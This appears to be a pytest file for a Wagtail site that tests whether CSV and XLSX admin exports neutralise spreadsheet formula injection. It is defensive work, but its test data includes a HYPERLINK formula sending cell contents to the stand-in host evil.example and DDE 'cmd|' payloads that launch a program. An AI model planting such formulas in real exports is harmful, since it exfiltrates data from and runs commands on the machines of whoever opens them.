"""No admin export hands a spreadsheet a formula (OWASP, CSV Injection).

The issue's input: a feedback message ``=HYPERLINK("http://evil.example/?x="&A1,
"Klicka")`` came out of the submissions CSV unchanged. Every CSV and XLSX export
(form submissions, Wagtail's reports, any listing export) prefixes CSV cells that begin
with ``=``, ``+``, ``-``, ``@``, tab or carriage return with a single quote; XLSX cells
so beginning are kept as written, stored as text with the quote prefix.
"""

import csv
import io

import pytest
from django.utils import timezone
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.contrib.forms.models import FormSubmission
from wagtail.log_actions import log

from contacts.factories import ContactPersonFactory
from core.exports import neutralise_formula
from feedback.factories import FeedbackFormPageFactory
from pages.factories import TopicPageFactory
from tests.form_tokens import form_token

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Klicka")'
FORMULAS = [
    HYPERLINK,
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_START = tuple("=+-@\t\r")


def csv_rows(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def xlsx_cells(response):
    assert response.status_code == 200
    content = b"".join(response.streaming_content)
    sheet = load_workbook(io.BytesIO(content)).active
    return [list(row) for row in sheet.iter_rows()]


def formula_cells(rows):
    return [c for row in rows for c in row if isinstance(c, str) and c.startswith(FORMULA_START)]


def unmarked_xlsx_formulas(cells):
    """XLSX cells a spreadsheet could read as a formula: starting like one and not
    stored as text with the quote prefix."""
    return [
        cell.value
        for row in cells
        for cell in row
        if isinstance(cell.value, str)
        and cell.value.startswith(FORMULA_START)
        and not (cell.data_type == "s" and cell.quotePrefix)
    ]


@pytest.fixture
def feedback(home):
    return FeedbackFormPageFactory(parent=home, contact=ContactPersonFactory())


@pytest.fixture
def submissions(client, feedback):
    for number, message in enumerate(FORMULAS):
        response = client.post(
            feedback.url,
            {
                "namn": message,
                "e_post": "anna@example.com",
                "synpunkter": message,
                "form_token": form_token(feedback.url),
            },
            REMOTE_ADDR=f"192.0.2.{number + 1}",
        )
        assert response.status_code == 200
    return feedback


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_form_submission_export_neutralises_formulas(admin_client, submissions, export_format):
    response = admin_client.get(
        f"/admin/forms/submissions/{submissions.pk}/?export={export_format}"
    )

    stored = [s.get_data()["synpunkter"] for s in FormSubmission.objects.all()]
    assert len(stored) == len(FORMULAS)
    if export_format == "csv":
        rows = csv_rows(response)
        assert sorted(row[-1] for row in rows[1:]) == sorted("'" + message for message in stored)
        assert formula_cells(rows) == []
    else:
        # Shown as written, marked as text (core/exports.py).
        cells = xlsx_cells(response)
        assert sorted(row[-1].value for row in cells[1:]) == sorted(stored)
        assert unmarked_xlsx_formulas(cells) == []


def test_plain_text_numbers_and_dates_are_exported_as_they_are():
    assert neutralise_formula("Sökfunktionen hittar inte strategin.") == (
        "Sökfunktionen hittar inte strategin."
    )
    assert neutralise_formula(-5) == -5
    assert neutralise_formula("") == ""
    assert neutralise_formula("Anna Svensson, Luleå") == "Anna Svensson, Luleå"


@pytest.mark.parametrize("formula", FORMULAS)
def test_each_formula_start_is_neutralised(formula):
    assert neutralise_formula(formula) == "'" + formula
    assert neutralise_formula(HYPERLINK) == "'" + HYPERLINK


@pytest.fixture
def formula_page(home, admin_client):
    """A live page an editor titled with a formula, locked, old and logged."""
    page = TopicPageFactory(parent=home, title=HYPERLINK, slug="formel")
    page.locked = True
    page.locked_by = admin_client.user
    page.locked_at = timezone.now()
    page.last_published_at = timezone.now() - timezone.timedelta(days=400)
    page.save()
    log(instance=page, action="wagtail.publish", user=admin_client.user)
    return page


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
@pytest.mark.parametrize("report", ["locked", "aging-pages", "site-history"])
def test_report_exports_neutralise_formulas(admin_client, formula_page, report, export_format):
    response = admin_client.get(f"/admin/reports/{report}/?export={export_format}")

    if export_format == "csv":
        rows = csv_rows(response)
        assert any(cell == "'" + HYPERLINK for row in rows for cell in row), rows
        assert formula_cells(rows) == []
    else:
        cells = xlsx_cells(response)
        assert any(cell.value == HYPERLINK for row in cells for cell in row)
        assert unmarked_xlsx_formulas(cells) == []


def all_subclasses(cls):
    for subclass in cls.__subclasses__():
        yield subclass
        yield from all_subclasses(subclass)


def test_no_export_view_bypasses_the_neutralising():
    """Every export view Wagtail and we define goes through the neutralised methods."""
    assert SpreadsheetExportMixin.neutralises_formulas
    for view in all_subclasses(SpreadsheetExportMixin):
        for method in ("preprocess_field_value", "generate_xlsx_row", "get_heading"):
            assert getattr(view, method) is getattr(SpreadsheetExportMixin, method), (
                view,
                method,
            )


@pytest.mark.parametrize(
    ("message", "expected"),
    [
        ("Bra sida;=cmd|' /C calc'!A0", "Bra sida;'=cmd|' /C calc'!A0"),
        ("a; +1+1", "a; '+1+1"),
        ("a;-2;@SUM(1)", "a;'-2;'@SUM(1)"),
        ("x;\t=1", "x;'\t=1"),
    ],
)
def test_a_formula_after_a_semicolon_is_neutralised_for_swedish_spreadsheets(message, expected):
    """Swedish Excel splits CSV on ";": the cell after it must not start a formula."""
    assert neutralise_formula(message) == expected


def test_semicolons_in_plain_text_are_left_alone():
    assert neutralise_formula("Luleå; 31 januari 2018; 09.30") == "Luleå; 31 januari 2018; 09.30"


def test_submissions_csv_carries_no_formula_after_a_semicolon(admin_client, feedback, client):
    message = "Bra sida;=cmd|' /C calc'!A0"
    response = client.post(
        feedback.url,
        {
            "namn": "Anna",
            "e_post": "anna@example.com",
            "synpunkter": message,
            "form_token": form_token(feedback.url),
        },
        REMOTE_ADDR="192.0.2.50",
    )
    assert response.status_code == 200
    url = f"/admin/forms/submissions/{feedback.pk}/?export=csv"
    rows = csv_rows(admin_client.get(url))
    cells = [cell.split(";") for row in rows for cell in row if "cmd|" in cell]
    assert cells, "the message is in the export"
    assert all(not part.lstrip(" ").startswith(FORMULA_START) for parts in cells for part in parts)
